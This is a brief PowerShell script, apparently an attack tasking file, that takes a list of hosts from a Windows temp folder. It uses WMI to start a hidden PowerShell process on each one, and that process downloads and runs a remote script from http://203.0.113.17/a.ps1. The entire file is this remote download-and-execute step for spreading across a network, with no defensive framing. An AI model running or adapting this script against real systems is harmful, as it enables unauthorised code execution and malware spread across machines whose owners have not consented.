# task 4436 v3
$targets = Get-Content C:\Windows\Temp\hosts.txt
foreach ($t in $targets) {
  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://203.0.113.17/a.ps1)"
}
